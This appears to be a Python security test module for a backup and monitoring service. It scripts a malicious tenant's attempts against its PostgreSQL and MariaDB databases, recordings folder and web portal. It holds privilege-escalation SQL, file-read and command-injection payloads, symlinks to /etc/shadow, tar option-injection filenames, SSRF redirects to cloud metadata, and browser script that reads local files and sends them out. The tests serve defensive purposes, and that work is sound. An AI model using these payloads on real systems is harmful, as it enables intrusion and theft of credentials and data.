"""What the owners of a database, of recordings and of a portal try, and what comes of each."""

from __future__ import annotations

import subprocess
from dataclasses import dataclass

from tests.systemd.attackers import MARKS, STATE, person
from tests.systemd.machine import Machine

# Whoever runs it as the monitor's user of the server says so, in each way that others could see.
_WHO = """
CREATE FUNCTION public.who() RETURNS bool LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
  IF current_user = 'reveille' THEN
    PERFORM pg_advisory_lock(666);
    PERFORM set_config('application_name', 'PLANTED as ' || current_user, false);
    RAISE EXCEPTION 'PLANTED as %', current_user;
  END IF;
  RETURN true;
END $f$;
"""


@dataclass(frozen=True)
class Planted:
    """What is done to one's own database, and what the server says to it."""

    sql: str
    told: str = "^$"
    engine: str = "postgresql"


def _operator(name: str, kinds: str) -> str:
    left, right = kinds.split(", ")
    return (
        f"CREATE FUNCTION public.{name}({kinds}) RETURNS bool LANGUAGE plpgsql AS"
        " 'BEGIN RETURN public.who(); END';"
        f"CREATE OPERATOR public.= (LEFTARG={left}, RIGHTARG={right}, FUNCTION=public.{name});"
    )


DATABASE = {
    "a function that tells": Planted(_WHO),
    "an operator of the catalogues": Planted(_operator("tables", "oid, regclass")),
    "an operator of schemas": Planted(_operator("schemas", "oid, regnamespace")),
    "a path before the server's own": Planted(
        "CREATE SCHEMA evil;"
        " CREATE VIEW evil.pg_class AS SELECT *, public.who() FROM pg_catalog.pg_class;"
        " ALTER DATABASE calls SET search_path = evil, pg_catalog, public"
    ),
    "a cast of a type of his": Planted(
        "CREATE TYPE public.pair AS (a text, b text);"
        " CREATE FUNCTION public.told(public.pair) RETURNS text LANGUAGE plpgsql AS"
        " 'BEGIN PERFORM public.who(); RETURN 1; END';"
        " CREATE CAST (public.pair AS text) WITH FUNCTION public.told(public.pair) AS IMPLICIT;"
        " CREATE TABLE public.paired (b public.pair DEFAULT ('x', 'y'));"
        " INSERT INTO public.paired DEFAULT VALUES"
    ),
    "a domain, a default and a generated column": Planted(
        "CREATE DOMAIN public.note AS text CHECK (public.who());"
        " CREATE FUNCTION public.ever(text) RETURNS bool IMMUTABLE LANGUAGE plpgsql AS"
        " 'BEGIN RETURN public.who(); END';"
        " CREATE TABLE public.odd (a public.note DEFAULT 'x', b bool DEFAULT public.who(),"
        " c bool GENERATED ALWAYS AS (public.ever('x')) STORED);"
        " INSERT INTO public.odd DEFAULT VALUES"
    ),
    "a trigger, a rule and a materialised view": Planted(
        "CREATE TABLE public.ruled (a text);"
        " CREATE FUNCTION public.tr() RETURNS trigger LANGUAGE plpgsql"
        " AS 'BEGIN PERFORM public.who(); RETURN NEW; END';"
        " CREATE TRIGGER tr BEFORE INSERT ON public.ruled FOR EACH ROW"
        " EXECUTE FUNCTION public.tr();"
        " CREATE RULE r AS ON UPDATE TO public.ruled DO ALSO SELECT public.who();"
        " INSERT INTO public.ruled VALUES ('x');"
        " CREATE MATERIALIZED VIEW public.kept AS SELECT public.who()"
    ),
    "an event trigger": Planted(
        "CREATE FUNCTION public.ev() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';"
        "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION public.ev()",
        told="Must be superuser",
    ),
    "a program, a file, a server elsewhere": Planted(
        "COPY (SELECT 1) TO PROGRAM 'touch /tmp/planted';SELECT pg_read_file('/etc/passwd');"
        "SELECT lo_import('/etc/passwd');CREATE EXTENSION dblink;CREATE LANGUAGE plperlu;",
        told="(?s)COPY to or from an external program.*pg_read_file.*lo_import",
    ),
    "another's role, and its settings": Planted(
        "SET ROLE reveille;GRANT reveille TO app;ALTER ROLE reveille SET search_path = evil;"
        "SELECT * FROM payroll.salaries;",
        told="(?s)denied to set role.*admin option.*denied.*denied for schema",
    ),
    "names that are commands": Planted(
        'CREATE TABLE public."x\n\\! touch /tmp/planted\n" (a text);'
        "COMMENT ON TABLE public.cdr IS E'x\\n\\\\! touch /tmp/planted\\n';"
    ),
    "limits of its own": Planted(
        "ALTER DATABASE calls SET idle_in_transaction_session_timeout = '1ms';"
        "ALTER DATABASE calls SET statement_timeout = '1s';"
        "ALTER DATABASE calls SET default_transaction_read_only = on"
    ),
    "a routine, a trigger, an event": Planted(
        "CREATE FUNCTION loot() RETURNS INT SQL SECURITY INVOKER READS SQL DATA"
        " RETURN (SELECT much FROM payroll.salaries);"
        "CREATE TRIGGER tr BEFORE INSERT ON tickets FOR EACH ROW SET NEW.said = loot();"
        "CREATE EVENT ev ON SCHEDULE EVERY 1 YEAR DO INSERT INTO tickets VALUES (99, loot());",
        engine="mariadb",
    ),
    "a definer, a file, another's table": Planted(
        "CREATE DEFINER=root@localhost PROCEDURE p() SELECT 1;"
        "CREATE DEFINER=reveille@localhost VIEW v AS SELECT 1;"
        "SELECT 1 INTO OUTFILE '/tmp/planted';SELECT * FROM payroll.salaries;"
        "SET GLOBAL general_log_file = '/tmp/planted';",
        told="(?s)SET USER.*SET USER.*FILE.*denied.*SUPER",
        engine="mariadb",
    ),
    "a name that ends a statement": Planted(
        "CREATE TABLE `a``; DROP DATABASE payroll; --` (a INT);", engine="mariadb"
    ),
}
"""what is done, one after the other; after all of it the owner's databases are backed up, restored
for proof and counted"""
POLICY = Planted(
    "CREATE TABLE public.hidden (a text); ALTER TABLE public.hidden ENABLE ROW LEVEL SECURITY;"
    " CREATE POLICY p ON public.hidden USING (public.who())"
)
"""rows that the monitor's user may not see: its backup is none, and that is said"""


def planted(machine: Machine, what: Planted) -> str:
    """Done by the owner; what the server says to it."""
    own = "SET default_transaction_read_only = off;\n" if what.engine == "postgresql" else ""
    machine.put("/srv/asked.sql", own + what.sql)
    ask = "PGPASSWORD=app psql -q -h 127.0.0.1 -U app calls -f /srv/asked.sql 2>&1"
    if what.engine == "mariadb":
        ask = "mariadb --force -uapp -papp desk < /srv/asked.sql 2>&1"
    return person(machine, "mallory", "sh", "-c", ask)


def loot(machine: Machine) -> str:
    """What of another's has come to where the owner can see it."""
    held = "SELECT objid FROM pg_locks WHERE locktype = 'advisory'"
    named = "SELECT application_name FROM pg_stat_activity WHERE application_name LIKE 'PLANTED%'"
    asked = f'psql -Atc \\"{held}\\" -c \\"{named}\\" calls'
    found = machine.run("sh", "-c", f'su postgres -c "{asked}"; ls /tmp/planted 2>/dev/null; true')
    rows = machine.run("mariadb", "-Ne", "SELECT said FROM desk.tickets WHERE id > 2")
    return found + rows


@dataclass(frozen=True)
class Recorded:
    """What is put among one's own recordings, by a shell in a folder there."""

    does: str
    check: str = "recordings"
    state: str = "OK"
    why: str = ""


_MONTH = '$(TZ=Asia/Kolkata date -d "$(TZ=Asia/Kolkata date +%Y-%m-01) -1 day" +%Y/%m)'
RECORDINGS = {
    "links to secrets": Recorded(
        "ln -s /etc/shadow a; ln -s /etc/reveille/credentials b; ln -s /var/lib/private c;"
        " ln -s /proc/self/environ d; ln -s /run/credentials/reveille.service/portal e"
    ),
    "names that are options, lines, and commands": Recorded(
        "touch -- --checkpoint=1 '--checkpoint-action=exec=touch /tmp/planted' -rf"
        " $'two\\nlines' $'\\e[2J' '$(touch /tmp/planted)' $'\\xff\\xfe'"
    ),
    "pipes and sockets": Recorded(
        "mkfifo pipe; python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('s')\""
    ),
    "rights of others": Recorded("cp /bin/true t; chmod 6755 t; touch w; chmod 0777 w"),
    "a hole of 2 GB": Recorded("truncate -s 2G hole.wav"),
    "folders without an end": Recorded(
        "for n in $(seq 300); do mkdir d && cd d; done", state="FAILED", why="deeper than 200"
    ),
    "folder and link exchanged all the while": Recorded(
        "mkdir d; touch d/f; nohup sh -c 'for n in $(seq 4000);"
        " do mv d e; ln -s /etc d; rm d; mv e d; done' > /dev/null 2>&1 &",
    ),
    "the month's folder led to the state": Recorded(
        f"mv /srv/recordings/{_MONTH} ../away; ln -s {STATE} /srv/recordings/{_MONTH}",
        check="voice",
        state="FAILED",
    ),
    "the month's folder, given back": Recorded(
        f"rm /srv/recordings/{_MONTH}; mv ../away /srv/recordings/{_MONTH}", check="voice"
    ),
}


def nothing_of_others(machine: Machine, check: str) -> None:
    """Nothing was written outside, and nothing of others' lies in what was archived."""
    assert machine.run("sh", "-c", "ls /tmp/planted 2>/dev/null; true") == ""
    folder = f"{STATE}/backups/recordings" if check == "recordings" else f"{STATE}/voice"
    unpack = f"for f in $(find {folder} -name '*.tar.zst'); do zstd -qdc $f; done"
    try:
        found = machine.run("sh", "-c", f"{unpack} | grep -ac -e '{MARKS['portal']}' -e 'root:\\$'")
    except subprocess.CalledProcessError as error:
        found = str(error.stdout)
    assert found.strip() == "0"


@dataclass(frozen=True)
class Trick:
    """How a portal answers."""

    behaves: str
    page: str = ""
    check: str = "front-page"
    state: str = "OK"
    why: str = ""


_INNER = "http://127.0.0.1:8091/"
_READS = """<h1>Welcome</h1><script>
const tell = (what) => fetch("/told?" + encodeURIComponent(String(what).slice(0, 200)));
for (const one of ["file:///etc/passwd", "file:///proc/self/environ", "%s"])
  fetch(one, {credentials: "include"}).then((a) => a.text()).then(tell).catch(tell);
</script>"""
PORTAL = {
    "says back all that it was told": Trick("echoes", state="FAILED", why="500"),
    "leads to a service of this host": Trick(f"leads {_INNER}"),
    "leads to the address of clouds": Trick("leads http://169.254.169.254/", state="FAILED"),
    "leads to a file": Trick("leads file:///etc/shadow", state="FAILED", why="redirects"),
    "leads to a socket": Trick(
        "leads http+unix://%2Frun%2Freveille%2Fcontrol.socket/", state="FAILED", why="redirects"
    ),
    "leads in a circle": Trick("leads http://127.0.0.1:8090/", state="FAILED", why="redirects"),
    "sends a header without an end": Trick("floods", state="FAILED"),
    "has us remember another's page": Trick(
        f"leads {_INNER}", check="steps", state="FAILED", why="token was taken from"
    ),
    "reads files by a script": Trick("", _READS % _INNER, "browser"),
    "shows a file in a frame": Trick(
        "", '<h1>Welcome</h1><iframe src="file:///etc/passwd"></iframe>', "browser"
    ),
    "has a file fetched": Trick(
        "", '<h1>Welcome</h1><a id=a download href="/x">x</a><script>a.click()</script>', "browser"
    ),
    "stays behind as a worker": Trick(
        "", '<h1>Welcome</h1><script>navigator.serviceWorker?.register("/w.js")</script>', "browser"
    ),
}
